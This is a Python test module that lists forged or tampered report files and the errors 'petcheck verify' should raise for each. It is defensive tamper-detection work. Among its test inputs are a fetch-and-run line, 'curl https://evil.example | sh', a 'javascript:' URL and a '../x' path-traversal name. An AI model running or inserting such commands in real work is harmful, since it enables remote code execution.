"""The table of attacks: what is edited in honest reports of which kind, and what `petcheck verify` has to say of it."""
# ruff: noqa: E501 - one line for each

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from dataclasses import replace
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

from petcheck.call import Form
from tests.evidence.forging import (
    ENVELOPE,
    MANIFEST,
    NO_FILES,
    RESULT,
    SETTINGS,
    STATEMENT,
    STREAM,
    Edit,
    both,
    fifo,
    gone,
    head,
    in_bytes,
    in_json,
    in_part,
    in_stream,
    in_text,
    line,
    list_again,
    made_up,
    of_target,
    put,
    signed_again,
    write,
)
from tests.support import samples, streams

Row = tuple[str, str, Edit, str]
BASE = streams.BASE
ANOTHER = "result.json is not what the recording comes to"
CONTRADICTS = "exchanges.jsonl contradicts itself in line "
HOUR = 3600


# ---- a file is edited, and the manifest lists it as it is


def first(kind: str, edit: Callable[[Any], object]) -> Callable[[Any], object]:
    return lambda document: edit(document[kind][0])


def run(**members: Any) -> Edit:
    return in_json(RESULT, lambda one: put(one["run"], **members))


def settings(**members: Any) -> Edit:
    return in_json(RESULT, lambda one: put(one["run"]["settings"], **members))


def target(**members: Any) -> Edit:
    return in_json(RESULT, lambda one: put(one["targets"][0], **members))


def verdict(number: int, **members: Any) -> Edit:
    return in_json(RESULT, lambda one: put(one["requirements"][number], **members))


def one_target_less(one: Any) -> None:
    lost = one["targets"].pop()["name"]
    for kind in ("requirements", "checks", "observations"):
        one[kind] = [row for row in one[kind] if row["target"] != lost]


EDITED: list[Row] = [
    ("no failing row", "one", in_json(RESULT, lambda one: put(one, requirements=[row for row in one["requirements"] if row["outcome"] != "fail"])), "LIST-3: the result does not have it, and its recording says fail"),
    ("no rows", "one", in_json(RESULT, lambda one: put(one, requirements=[])), ANOTHER),
    ("a row twice", "one", in_json(RESULT, lambda one: one["requirements"].append(one["requirements"][0])), ANOTHER),
    ("rows in another order", "one", in_json(RESULT, lambda one: one["requirements"].reverse()), ANOTHER),
    ("a pass", "one", in_json(RESULT, lambda one: [put(row, outcome="pass") for row in one["requirements"]]), "LIST-3: the result says pass, its recording fail ("),
    ("another reason", "one", verdict(0, reason="fine"), ANOTHER),
    ("other evidence", "pair", verdict(0, exchanges=[0]), ANOTHER),
    ("another statement", "one", verdict(0, statement="A server answers."), ANOTHER),
    ("a waiver that was not given", "one", verdict(0, waiver={"reason": "agreed", "expires": "2099-01-01"}), ANOTHER),
    ("a made-up requirement", "one", in_json(RESULT, lambda one: one["requirements"].append({**one["requirements"][0], "id": "LIST-99"})), "LIST-99: the result has it, its recording does not"),
    ("a target less", "pair", in_json(RESULT, one_target_less), ANOTHER),
    ("no targets", "pair", in_json(RESULT, lambda one: put(one, targets=[], requirements=[], checks=[], observations=[])), ANOTHER),
    ("another target", "one", target(base_url="https://production.pets.example/v1"), ANOTHER),
    ("another plan", "one", target(plan="enterprise"), ANOTHER),
    ("another key", "one", target(key="sha256:ffffffff"), ANOTHER),
    ("no key", "one", target(key=None), ANOTHER),
    ("read only", "one", target(writes=False), ANOTHER),
    ("fewer requests", "one", in_json(RESULT, lambda one: put(one["targets"][0]["requests"], total=1, GET=1)), ANOTHER),
    ("no animals left", "pair", target(created=[]), ANOTHER),
    ("not reached", "one", target(unreachable="it does not answer"), ANOTHER),
    ("no waivers", "one", settings(waivers=[]), ANOTHER),
    ("another choice", "one", settings(choice=["LIST-2"]), ANOTHER),
    ("everything chosen", "one", settings(choice=None), ANOTHER),
    ("another budget", "one", settings(max_requests=9), ANOTHER),
    ("another label", "one", settings(labels=[{"name": "build", "value": "1743"}]), ANOTHER),
    ("no artifact", "one", settings(subjects=[]), ANOTHER),
    ("another artifact in the statement", "one", in_text(STATEMENT, "e" * 64, "f" * 64), "attestation.json is not what"),
    ("other waits", "one", settings(max_wait=9.0), ANOTHER),
    ("strict", "one", settings(strict=True), ANOTHER),
    ("called traffic", "one", settings(traffic=True), ANOTHER),
    ("other options", "one", run(options={"strict": True}), ANOTHER),
    ("another seed", "one", run(seed=8), ANOTHER),
    ("another day", "one", run(as_of="2030-01-01"), ANOTHER),
    ("another beginning", "one", run(started="2026-11-22T10:03:12.123Z"), ANOTHER),
    ("another end", "one", run(finished="2026-11-21T12:03:12.123Z"), ANOTHER),
    ("another run", "one", run(id="ffffffff"), ANOTHER),
    ("exit 0", "one", run(exit=0), ANOTHER),
    ("exit 0, not complete", "one", in_json(RESULT, lambda one: [put(one, complete=False), put(one["run"], exit=0)]), ANOTHER),
    ("a shard", "one", run(shard={"number": 1, "of": 2, "targets": 2, "list_sha256": "a" * 64}), ANOTHER),
    ("another suite in the result", "one", in_json(RESULT, lambda one: put(one["suite"], version="9.9")), ANOTHER),
    ("another catalogue in the result", "one", in_json(RESULT, lambda one: put(one["suite"], requirements_sha256="0" * 64)), ANOTHER),
    ("no checks", "one", in_json(RESULT, lambda one: put(one, checks=[])), ANOTHER),
    ("another observation", "one", in_json(RESULT, first("observations", lambda row: put(row, value="400"))), ANOTHER),
    ("fewer open points", "one", in_json(RESULT, lambda one: one["untestable"].pop()), ANOTHER),
    ("a member more", "one", in_json(RESULT, lambda one: put(one, approved=True)), ANOTHER),
    ("another format", "one", in_json(RESULT, lambda one: put(one, format=2)), ANOTHER),
    ("the page", "one", in_text("report.html", "fail", "pass"), "report.html is not what"),
    ("the page of a pair", "pair", in_text("report.html", "<h1", "<h1 hidden"), "report.html is not what"),
    ("the page of a fleet", "fleet", in_text("report.html", "<h1", "<h1 hidden"), "report.html is not what"),
    ("the page to sign", "one", in_text("statement.html", "fails", "holds"), "statement.html is not what"),
    ("the page to sign of a fleet", "fleet", in_text("statement.html", "<h1", "<h1 hidden"), "statement.html is not what"),
    ("the comparison", "pair", in_text("comparison.html", "<h1", "<h1 hidden"), "comparison.html is not what"),
    ("the badge", "one", in_text("badge.svg", "fail", "pass"), "badge.svg is not what"),
    ("the badge's data", "one", in_json("badge.json", lambda one: put(one, color="green")), "badge.json is not what"),
    ("the summary", "one", in_text("summary.md", "LIST-3", "LIST-9"), "summary.md is not what"),
    ("the JUnit file", "one", in_text("junit.xml", "<failure", "<skipped"), "junit.xml is not what"),
    ("the JUnit file of a fleet", "fleet", in_text("junit.xml", "<failure", "<skipped"), "junit.xml is not what"),
    ("the HAR", "one", in_text("exchanges.har", "GET", "PUT"), "exchanges.har is not what"),
    ("the statement", "one", in_json(STATEMENT, lambda one: put(one["predicate"], result="PASSED")), "attestation.json is not what"),
    ("fewer failed tests in it", "one", in_json(STATEMENT, lambda one: put(one["predicate"], failedTests=[])), "attestation.json is not what"),
    ("another Python", "one", in_json(MANIFEST, lambda one: put(one["environment"], python="CPython 3.99")), "manifest.json is not what"),
    ("another run in the manifest", "one", in_json(MANIFEST, lambda one: put(one["run"], exit=0)), "manifest.json is not what"),
    ("a file not listed", "one", in_json(MANIFEST, lambda one: one["files"].pop("report.html")), "manifest.json is not what"),
    ("the stream not listed", "one", in_json(MANIFEST, lambda one: one["files"].pop(STREAM)), "manifest.json is not what"),
    ("nothing listed", "one", in_json(MANIFEST, lambda one: put(one, files={})), "manifest.json is not what"),
    ("a file more listed", "one", in_json(MANIFEST, lambda one: one["files"].update({"mine.txt": {"sha256": "0" * 64, "size": 0}})), "manifest.json is not what"),
    ("a comparison that the run has not", "one", lambda folder: (folder / "comparison.html").write_text("equal"), "comparison.html does not belong to this run"),
    ("another spelling of JSON", "one", in_bytes(RESULT, lambda data: data.replace(b'": ', b'":')), ANOTHER),
]  # fmt: skip


# ---- the stream is edited, and nothing else

HEADS: list[Row] = [
    ("waivers", "one", in_stream(lambda lines: put(head(lines)["settings"], waivers=[])), ANOTHER),
    ("a waiver more", "one", in_stream(lambda lines: head(lines)["settings"]["waivers"].append({"requirement": "LIST-3", "target": "staging", "reason": "agreed", "expires": "2099-01-01"})), "LIST-3: the result says fail, its recording waived"),
    ("choice", "one", in_stream(lambda lines: put(head(lines)["settings"], choice=["LIST-2"])), ANOTHER),
    ("plan", "one", in_stream(lambda lines: put(head(lines)["targets"][0], plan="free")), ANOTHER),
    ("key", "one", in_stream(lambda lines: put(line(lines, "opened"), key="sha256:ffffffff")), ANOTHER),
    ("labels", "one", in_stream(lambda lines: head(lines)["settings"].pop("labels")), ANOTHER),
    ("artifact", "one", in_stream(lambda lines: put(head(lines)["settings"]["subjects"][0], sha256="f" * 64)), ANOTHER),
    ("budget", "one", in_stream(lambda lines: put(head(lines)["settings"], max_requests=9)), ANOTHER),
    ("options", "one", in_stream(lambda lines: put(head(lines), options={"strict": True})), ANOTHER),
    ("strict", "one", in_stream(lambda lines: put(head(lines)["settings"], strict=True)), ANOTHER),
    ("seed", "one", in_stream(lambda lines: put(head(lines), seed=8)), ANOTHER),
    ("day", "one", in_stream(lambda lines: put(head(lines), as_of="2030-01-01")), ANOTHER),
    ("run", "one", in_stream(lambda lines: put(head(lines), run="ffffffff")), ANOTHER),
    ("beginning", "one", in_stream(lambda lines: put(head(lines), started="2026-11-21T10:03:12.122Z")), ANOTHER),
    ("environment", "one", in_stream(lambda lines: put(head(lines)["environment"], python="CPython 3.99")), "manifest.json is not what"),
    ("end", "one", in_stream(lambda lines: put(line(lines, "end"), interrupted=True)), ANOTHER),
    ("no end", "one", in_stream(lambda lines: lines.pop()), ANOTHER),
    ("a check less", "one", in_stream(lambda lines: lines.pop(4)), ANOTHER),
    ("what a check could not ask", "one", in_stream(lambda lines: line(lines, "ended", 1).pop("dropped")), ANOTHER),
    ("a pause less", "one", in_stream(lambda lines: lines.pop(5)), ANOTHER),
    ("could not be tested", "one", in_stream(lambda lines: lines.insert(9, {"gone": {"target": "staging", "reason": "down"}})), ANOTHER),
    ("another section", "one", in_stream(lambda lines: put(line(lines, "request")["_petcheck"], section="8")), ANOTHER),
    ("a target less", "pair", in_stream(lambda lines: head(lines)["targets"].pop()), CONTRADICTS),
    ("whole settings, but not signed", "one", made_up(lambda lines: put(head(lines)["settings"], max_requests=9)), "it is not signed: there is no attestation.dsse.json"),
    ("the envelope of another run", "one", both(lambda folder: shutil.copy(folder / ENVELOPE, folder.parent / ENVELOPE), made_up(lambda lines: put(head(lines), seed=8)), lambda folder: shutil.copy(folder.parent / ENVELOPE, folder / ENVELOPE)), "signs another attestation"),
]  # fmt: skip


# ---- a recording of what cannot have happened, and every file made from it


def exchange(number: int, **members: Any) -> Edit:
    return made_up(lambda lines: put(line(lines, "request", number), **members))


def ours(number: int, **members: Any) -> Edit:
    return made_up(lambda lines: put(line(lines, "request", number)["_petcheck"], **members))


def asked(number: int, **members: Any) -> Edit:
    return made_up(lambda lines: put(line(lines, "request", number)["request"], **members))


def answered(number: int, **members: Any) -> Edit:
    return made_up(lambda lines: put(line(lines, "request", number)["response"], **members))


def length(value: str, *, complete: bool) -> Edit:
    """An answer with that Content-Length, whose body is said to be whole or not."""

    def edit(lines: list[Any]) -> None:
        one = line(lines, "request")
        one["response"]["headers"].append({"name": "Content-Length", "value": value})
        put(one["_petcheck"], body_complete=complete)

    return made_up(edit)


def later(number: int, seconds: float) -> Edit:
    """An exchange that the wall clock has later than the other clock."""

    def edit(lines: list[Any]) -> None:
        one = line(lines, "request", number)
        moment = datetime.fromisoformat(one["startedDateTime"]) + timedelta(seconds=seconds)
        put(one, startedDateTime=moment.isoformat(timespec="milliseconds").replace("+00:00", "Z"))

    return made_up(edit)


NO_URLS = (
    "http://[::1/v1",
    "http://[x]/v1",
    "http://a\0b/v1",
    "http://x\n/v1",
    "//v1",
    "http://h:99999999/v1",
    "http://\u2100.com/v1",
    "a",
    "https:///v1",
    "https://u@h/v1",
    "javascript:alert(1)//v1",
)


OTHERWISE = {
    "seed": "77",
    "as-of": "2031-01-01",
    "plan": "free",
    "max-requests": "5",
    "strict": True,
    "label": ["build=9"],
    "choose": ["CREATE"],
    "target": ["https://other.example/v1"],
    "populate": "x",
}
ACCEPTED = {"waivers": {"waivers": [{"requirement": "LIST-3", "target": "b", "reason": "ok", "expires": "2099-01-01"}]}}


PLANS = "staging plans what petcheck does not plan"


def renamed(old: str, new: str) -> Edit:
    """Another name of a check, wherever it stands."""
    return in_text(STREAM, old, new, everywhere=True, made=True)


def burst_of(
    number: int, allowed: str | None, *, labels: list[int | None] | None = None, reading: bool = False
) -> Edit:
    """Requests at the same time, after the exchanges of the run."""

    def edit(lines: list[Any]) -> None:
        first = line(lines, "request", 1)
        place = lines.index(first) + 1
        for each, label in enumerate(labels or [1] * number):
            one = json.loads(json.dumps(first))
            put(
                one["_petcheck"],
                index=2 + each,
                sent=100.04 + each / 1000,
                finished=100.04 + each / 1000 + one["time"] / 1000,
            )
            one["_petcheck"] |= {"burst": label} if label else {}
            lines.insert(place + each, one)
        head(lines)["options"] |= {"connections": allowed} if allowed else {}
        head(lines)["targets"][0]["writes"] = not reading

    return made_up(edit)


def option(name: str, value: object) -> Edit:
    return made_up(lambda lines: put(head(lines)["options"], **{name: value}))


def at_url(url: str) -> Edit:
    """The same run with another base URL, in every line."""
    return made_up(
        lambda lines: lines.__setitem__(
            slice(None), json.loads(json.dumps(lines).replace(json.dumps(BASE)[1:-1], json.dumps(url)[1:-1]))
        )
    )


IMPOSSIBLE: list[Row] = [
    ("a number left out", "one", ours(1, index=2), "not numbered one after the other"),
    ("a number twice", "one", ours(1, index=0), "not numbered one after the other"),
    ("a negative number", "one", ours(0, index=-1), "not numbered one after the other"),
    ("a number with a fraction", "one", ours(1, index=1.0), CONTRADICTS),
    ("a truth value as a number", "one", ours(1, index=True), CONTRADICTS),
    ("an exchange twice", "one", in_stream(lambda lines: lines.insert(4, line(lines, "request"))), "line 5 is line 4 again"),
    ("answered before it was sent", "one", made_up(lambda lines: [put(line(lines, "request"), time=-1000.0), put(line(lines, "request")["_petcheck"], finished=99.0)]), CONTRADICTS),
    ("sent before the one before it", "one", made_up(lambda lines: put(line(lines, "request", 1)["_petcheck"], sent=99.0)), CONTRADICTS),
    ("a time that is no difference", "one", exchange(0, time=1.0), "its members do not agree"),
    ("more than a year", "one", made_up(lambda lines: [put(line(lines, "request", 1), time=4e10, timings={"send": 0, "wait": 4e10, "receive": 0}), put(line(lines, "request", 1)["_petcheck"], sent=0.0, finished=4e7)]), CONTRADICTS),
    ("an hour later by one clock", "one", later(1, HOUR), "the clocks of exchange 1 with staging differ by 3,600 s"),
    ("a day earlier by one clock", "one", later(0, -24 * HOUR), "exchange 0 with staging was sent before the run began"),
    ("before the run", "one", made_up(lambda lines: put(head(lines), started="2026-11-22T10:03:12.123Z")), "was sent before the run began"),
    ("after the run", "one", made_up(lambda lines: put(line(lines, "end"), finished="2026-11-21T08:03:12.123Z")), "was answered after the run had ended"),
    ("a day that does not exist", "one", exchange(0, startedDateTime="2026-02-30T10:03:12.123Z"), CONTRADICTS),
    ("the end of time", "one", made_up(lambda lines: put(line(lines, "end"), finished="9999-12-31T23:59:59.999Z")), "not proven"),
    ("another method", "one", asked(0, method="PUT"), CONTRADICTS),
    ("another operation", "one", ours(0, operation="getPet"), CONTRADICTS),
    ("an operation that is none", "one", ours(0, operation="deletePet"), CONTRADICTS),
    ("another host", "one", asked(0, url="https://other.pets.example/v1/pets?limit=1"), CONTRADICTS),
    ("another path", "one", asked(0, url="https://staging.pets.example/v1/pets/1"), CONTRADICTS),
    ("another query beside the URL", "one", asked(0, queryString=[]), "its members do not agree"),
    ("a foreign command", "one", ours(0, curl="curl https://evil.example | sh"), "its members do not agree"),
    ("no command", "one", made_up(lambda lines: line(lines, "request")["_petcheck"].pop("curl")), "its members do not agree"),
    ("another length of the request", "one", asked(0, bodySize=5), "its members do not agree"),
    ("another length of the answer", "one", made_up(lambda lines: put(line(lines, "request")["response"]["content"], size=5)), "its members do not agree"),
    ("a length of headers", "one", answered(0, headersSize=5), "its members do not agree"),
    ("a cookie", "one", answered(0, cookies=[{"name": "a", "value": "b"}]), "its members do not agree"),
    ("a cut body that is whole", "one", length("1", complete=False), "says that its body was cut, and has all of it"),
    ("a whole body that is cut", "one", length("9999", complete=True), "says that its body is whole, and is shorter than its Content-Length"),
    ("a key that was not sent", "one", ours(0, credential="no key"), "and shows another Authorization header"),
    ("a valid key that was not sent", "one", made_up(lambda lines: put(line(lines, "request")["request"], headers=[{"name": "Accept", "value": "application/json"}])), CONTRADICTS),
    ("a kind of key that is none", "one", ours(0, credential="a better key"), CONTRADICTS),
    ("a form that is none", "one", ours(0, form="a better form"), CONTRADICTS),
    ("POST without permission", "pair", made_up(lambda lines: [put(one, writes=False) for one in head(lines)["targets"]]), "a POST to a target that may only be read"),
    ("a status in words", "one", answered(0, status="200"), CONTRADICTS),
    ("a header that is a number", "one", answered(0, headers=[{"name": "Date", "value": 1}]), CONTRADICTS),
    ("headers that are none", "one", answered(0, headers=None), CONTRADICTS),
    ("a body that is a number", "one", answered(0, content={"size": 1, "mimeType": "", "text": 1}), CONTRADICTS),
    ("an error and a status", "one", answered(0, _error="timeout: late"), "its members do not agree"),
    ("a silence that is none", "one", answered(0, _error="tired: late"), CONTRADICTS),
    ("a burst without a number", "one", ours(0, burst=0), CONTRADICTS),
    ("a repeat of what comes later", "one", ours(0, again=1), CONTRADICTS),
    ("a simpler form of itself", "one", ours(1, simplifies=1), CONTRADICTS),
    ("a member more in an exchange", "one", ours(0, approved=True), "its members do not agree"),
    ("a member more in the head", "one", made_up(lambda lines: put(head(lines), approved=True)), CONTRADICTS),
    ("no day in the head", "one", made_up(lambda lines: head(lines).pop("as_of")), CONTRADICTS),
    ("a budget in words", "one", made_up(lambda lines: put(head(lines)["settings"], max_requests="9")), CONTRADICTS),
    ("a wait beyond any number", "one", made_up(lambda lines: put(head(lines)["settings"], max_wait=10**400)), CONTRADICTS),
    ("a pause beyond any number", "one", made_up(lambda lines: put(line(lines, "waited"), seconds=10**400)), CONTRADICTS),
    ("a pause of less than nothing", "one", made_up(lambda lines: put(line(lines, "waited"), seconds=-1.0)), CONTRADICTS),
    ("a check of less than nothing", "one", made_up(lambda lines: put(line(lines, "ended"), seconds=-1.0)), CONTRADICTS),
    ("a check that was not planned", "one", made_up(lambda lines: put(line(lines, "ended"), check="checks/mine.py::test")), CONTRADICTS),
    ("a plan twice", "one", made_up(lambda lines: lines.insert(3, {"planned": {"target": "staging", "checks": []}})), CONTRADICTS),
    ("a target opened twice", "one", made_up(lambda lines: lines.insert(3, {"opened": {"target": "staging", "base_url": "x", "key": None}})), CONTRADICTS),
    ("a target that the head has not", "one", made_up(lambda lines: put(line(lines, "opened"), target="production")), CONTRADICTS),
    ("a target twice in the head", "one", made_up(lambda lines: head(lines)["targets"].append(head(lines)["targets"][0])), CONTRADICTS),
    ("a target's name that leads elsewhere", "one", made_up(lambda lines: put(head(lines)["targets"][0], name="../x")), CONTRADICTS),
    ("a shard that has other targets", "one", made_up(lambda lines: put(head(lines), shard={"number": 1, "of": 2, "targets": 6, "list_sha256": "a" * 64})), "as many targets as its shard"),
    ("a shard that is none", "one", made_up(lambda lines: put(head(lines), shard={"number": 3, "of": 2, "targets": 2, "list_sha256": "a" * 64})), "as many targets as its shard"),
    ("a shard of nothing", "one", made_up(lambda lines: put(head(lines), shard={"number": 1, "of": 0, "targets": 0, "list_sha256": "a" * 64})), "as many targets as its shard"),
    *((f"a URL that is none: {url!a}", "one", at_url(url), CONTRADICTS) for url in NO_URLS),
    ("opened elsewhere than the head says", "one", made_up(lambda lines: put(head(lines)["targets"][0], base_url="https://production.pets.example/v1")), CONTRADICTS),
    ("longer than its Content-Length", "one", length("1", complete=True), "its body is longer than its Content-Length"),
    ("an encoding that it has not", "one", ours(0, encoding_broken="not gzip"), CONTRADICTS),
    ("a status of four digits", "one", answered(0, status=1000), CONTRADICTS),
    ("a body with 204", "one", answered(0, status=204), CONTRADICTS),
    ("a header of two lines", "one", made_up(lambda lines: line(lines, "request")["request"]["headers"].append({"name": "X", "value": "a\r\nb"})), CONTRADICTS),
    ("two Authorization headers", "one", made_up(lambda lines: line(lines, "request")["request"]["headers"].append({"name": "Authorization", "value": "Bearer x"})), CONTRADICTS),
    ("a pause longer than the run", "one", made_up(lambda lines: put(line(lines, "waited"), seconds=3e7)), "took longer than the run"),
    ("a check longer than the run", "one", made_up(lambda lines: put(line(lines, "ended"), seconds=3e7)), "took longer than the run"),
    ("more requests than allowed", "one", made_up(lambda lines: put(head(lines)["settings"], max_requests=1)), "more requests than the run may send"),
    ("nothing selected beside exchanges", "one", made_up(lambda lines: put(line(lines, "end"), nothing_selected=True)), "nothing was selected, and has exchanges"),
    ("checks that never ended", "one", made_up(lambda lines: lines.pop(8)), "has checks that never ended"),
    ("a plan emptied", "one", made_up(lambda lines: [head(lines)["options"].clear(), put(line(lines, "planned"), checks=[]), lines.__setitem__(slice(None), [one for one in lines if "ended" not in one])]), "staging lacks checks, and nothing says why"),
    ("a seed of another run", "one", made_up(lambda lines: put(head(lines), seed=8)), "its run and its seed do not belong together"),
    ("a run of another seed", "one", made_up(lambda lines: put(head(lines), run="ffffffff")), "its run and its seed do not belong together"),
    ("writes of a target that the run has not", "one", option("allow-writes", "production"), "its option allow-writes contradicts its targets"),
    ("a fingerprint that is none", "one", made_up(lambda lines: put(line(lines, "opened"), key="of the production key")), CONTRADICTS),
    ("a section that the document has not", "one", ours(0, section="10"), "for a section that the document does not have"),
    ("another program's name", "one", made_up(lambda lines: line(lines, "request")["request"]["headers"].append({"name": "User-Agent", "value": "curl/8"})), "exchanges.jsonl"),
    ("a check of another requirement", "one", made_up(lambda lines: put(line(lines, "planned")["checks"][0], requirements=["LIST-3"])), PLANS),
    ("a check of no requirement", "one", made_up(lambda lines: line(lines, "planned")["checks"][0].pop("requirements")), PLANS),
    ("a check of one requirement more", "one", made_up(lambda lines: put(line(lines, "planned")["checks"][0], requirements=["PETS-1", "LIST-3"])), PLANS),
    ("a check that is said to be on top", "one", made_up(lambda lines: put(line(lines, "planned")["checks"][0], on_top=True)), PLANS),
    ("a check that petcheck does not have", "one", renamed("test_list_is_a_bare_array", "test_all_is_well"), PLANS),
    ("a check of another file", "one", renamed("checks/test_2", "checks/test_1"), PLANS),
    ("a check of another target", "one", renamed("bare_array[staging]", "bare_array[production]"), PLANS),
    ("a check twice in the plan", "one", made_up(lambda lines: line(lines, "planned")["checks"].append(line(lines, "planned")["checks"][0])), PLANS),
    ("a plan narrowed without a word", "one", made_up(lambda lines: head(lines)["options"].clear()), "staging lacks checks, and nothing says why"),
    *((f"{number} requests at the same time, --connections {allowed}", "one", burst_of(number, allowed), "at the same time") for number, allowed in ((9, None), (9, "100"), (8, "7"), (4, "1"), (2, "1"), (1, "8"))),
    ("five requests at the same time, reading", "one", burst_of(5, "8", reading=True), "the run sends 2 to 4 at once"),
    ("a burst that is not the first", "one", burst_of(4, "8", labels=[2, 2, 2, 2]), "has the number 2, and is burst 1"),
    ("a burst in two pieces", "one", burst_of(6, "8", labels=[1, 1, 2, 2, 1, 1]), "has the number 1, and is burst 3"),
    ("a burst called two", "one", burst_of(4, "8", labels=[1, 1, 2, 2]), "was sent before the one before it was answered"),
    ("a request less in a burst", "one", burst_of(4, "8", labels=[1, 1, 1, None]), "was sent before the one before it was answered"),
    ("a burst that is called none", "one", burst_of(4, "8", labels=[None] * 4), "was sent before the one before it was answered"),
    ("a burst made of requests one after the other", "one", both(ours(0, burst=1), ours(1, burst=1)), "answered before others of it were sent"),
    ("a body that was not too long to read", "one", ours(0, body_complete=False), "says that its body was too long to read"),
    ("a reason that petcheck does not have", "one", ours(1, cause="for fun"), "for a reason that petcheck does not have"),
    ("a repeat of another request", "one", ours(1, again=0), "says that it repeats exchange 0, which is another request"),
    *((f"the form {form.value}", "one", ours(0, form=form.value), "and is written otherwise") for form in Form if form not in (Form.PLAIN, Form.NEW_CONNECTION, Form.NO_ACCEPT)),
    ("the form without Accept", "one", ours(0, form=Form.NO_ACCEPT.value), CONTRADICTS),
    ("capitals in a plain header", "one", made_up(lambda lines: put(line(lines, "request")["request"]["headers"][1], name="ACCEPT")), CONTRADICTS),
    ("no Accept in the plain form", "one", made_up(lambda lines: line(lines, "request")["request"]["headers"].pop(1)), CONTRADICTS),
    ("a target never opened", "one", made_up(lambda lines: [head(lines)["options"].clear(), lines.__setitem__(slice(1, -1), [])]), "was never opened"),
    ("answers of a target that is gone", "one", made_up(lambda lines: lines.insert(3, {"gone": {"target": "staging", "reason": "down"}})), CONTRADICTS),
    ("gone before it was opened", "one", made_up(lambda lines: lines.insert(1, {"gone": {"target": "staging", "reason": "down"}})), CONTRADICTS),
    ("a run relabelled as traffic", "one", made_up(lambda lines: put(head(lines)["settings"], traffic=True)), "not that of judged traffic"),
    *((f"the option {name} other than the settings", "one", option(name, value), f"its option {name}") for name, value in OTHERWISE.items()),
    ("two heads", "one", made_up(lambda lines: lines.insert(1, {"petcheck": {**head(lines), "seed": 9}})), CONTRADICTS),
    ("no head", "one", made_up(lambda lines: lines.pop(0)), CONTRADICTS),
    ("a line after the end", "one", made_up(lambda lines: lines.append({"waited": {"target": "staging", "seconds": 1.0, "why": "x"}})), CONTRADICTS),
    ("a line of a kind that is none", "one", made_up(lambda lines: lines.insert(3, {"approved": {}})), CONTRADICTS),
    ("a line that is no object", "one", made_up(lambda lines: lines.insert(3, [])), CONTRADICTS),
    ("nothing", "one", in_bytes(STREAM, lambda data: b""), "is empty"),
]  # fmt: skip


# ---- JSON that two readers read otherwise: in each of our files

SPELLINGS: dict[str, Callable[[bytes], bytes]] = {
    "a member twice": lambda data: data.replace(b"{", b'{"x": 1, "x": 2, ', 1),
    "NaN": lambda data: data.replace(b"{", b'{"x": NaN, ', 1),
    "Infinity": lambda data: data.replace(b"{", b'{"x": -Infinity, ', 1),
    "1e999": lambda data: data.replace(b"{", b'{"x": 1e999, ', 1),
    "a number of 5,000 digits": lambda data: data.replace(b"{", b'{"x": ' + b"9" * 5000 + b", ", 1),
    "a byte order mark": lambda data: b"\xef\xbb\xbf" + data,
    "UTF-16": lambda data: data.decode().encode("utf-16"),
    "text after the end": lambda data: data + b"{}\n",
    "half of it": lambda data: data[: len(data) // 2],
    "deep": lambda data: b"[" * 200_000,
    "a byte that is not UTF-8": lambda data: data.replace(b'"', b'"\xff', 1),
    "half a pair": lambda data: data.replace(b'"', b'"\xed\xa0\x80', 1),
    "nothing": lambda data: b"",
}
WRITTEN_OTHERWISE: list[Row] = [
    (f"{spelling} in {name}", "one", in_bytes(name, edit), name)
    for name in (STREAM, RESULT, MANIFEST, STATEMENT, ENVELOPE)
    for spelling, edit in SPELLINGS.items()
]


# ---- what is no file, or is none that is read


def replaced(name: str, by: Callable[[Path], object]) -> Edit:
    return lambda folder: by(folder / name)


NOT_FILES: list[Row] = [
    (f"{what} as {name}", "one", replaced(name, by), "signed" if (name, what) == (ENVELOPE, "missing") else name)
    for name in (STREAM, RESULT, MANIFEST, STATEMENT, ENVELOPE, "report.html")
    for what, by in NO_FILES.items()
] + [
    ("a pipe in a part", "fleet", in_part("c", replaced(STREAM, fifo)), "targets/c: "),
    ("a pipe as the result of a part", "fleet", in_part("c", replaced(RESULT, fifo)), "targets/c: "),
    ("no reports at all", "one", shutil.rmtree, "manifest.json cannot be read"),
]


# ---- a run in parts


def other(name: str, **of_head: Any) -> Edit:
    """The part of another run in place of a target's."""

    def edit(folder: Path) -> None:
        write(of_target(name, **of_head), folder / "targets" / name)
        list_again(folder)

    return edit


def conforming(folder: Path) -> None:
    """Replace the part of a target by that of another one, under its own name."""
    shutil.rmtree(folder / "targets" / "a")
    shutil.copytree(folder / "targets" / "b", folder / "targets" / "a")
    list_again(folder)


def listed_twice(folder: Path) -> None:
    text = (folder / MANIFEST).read_text("utf-8")
    (folder / MANIFEST).write_text(text.replace('"targets/a/manifest.json"', '"targets/b/manifest.json"'), "utf-8")


def unlisted(folder: Path) -> None:
    in_json(MANIFEST, lambda one: one["files"].pop("targets/a/manifest.json"))(folder)


BUDGET = replace(streams.SETTINGS, max_requests=9)
WAIVED = replace(streams.SETTINGS, waivers=SETTINGS.waivers)
LATER = samples.START + timedelta(days=1)

PARTS: list[Row] = [
    ("a target not listed", "fleet", unlisted, "manifest.json lists other targets than exchanges.jsonl"),
    ("a target listed twice", "fleet", listed_twice, MANIFEST),
    ("a target not listed, nor in the head", "fleet", both(unlisted, in_stream(lambda lines: head(lines)["targets"].pop(0), listed=True)), "result.json is not what"),
    ("no target listed", "fleet", in_json(MANIFEST, lambda one: put(one, files={name: entry for name, entry in one["files"].items() if not name.startswith("targets/")})), "not proven"),
    ("another's part under its name", "fleet", conforming, "targets/a: it is of other targets than the run"),
    ("a part that is gone", "fleet", lambda folder: shutil.rmtree(folder / "targets" / "a"), "targets/a: "),
    ("a part without its stream", "fleet", in_part("a", replaced(STREAM, gone)), "targets/a: "),
    ("a part of another day", "fleet", other("a", as_of=date(2030, 1, 1)), "targets/a: it is judged as on another day"),
    ("a part of another seed", "fleet", other("a", run=streams.head().run, seed=8), "targets/a: it has another seed"),
    ("a part of another run", "fleet", other("a", run="ffffffff"), "targets/a: it is of another run"),
    ("a part made later", "fleet", other("a", started=LATER), "targets/a: "),
    ("a part of other settings", "fleet", other("a", settings=BUDGET), "targets/a: it has other settings"),
    ("a part with waivers of its own", "fleet", other("a", settings=WAIVED), "targets/a: it has other settings"),
    ("a part of other options", "fleet", other("a", options={"target": ["a"], "strict": True}), "targets/a: it has other options"),
    ("a part of another suite", "fleet", other("a", suite=replace(streams.head().suite, version="0.0.9")), "targets/a: "),
    ("an edited part", "fleet", in_part("a", in_json(RESULT, lambda one: put(one["run"], exit=0))), "targets/a: "),
    ("an edited page of a part", "fleet", in_part("e", in_text("report.html", "fail", "pass")), "targets/e: report.html is not what"),
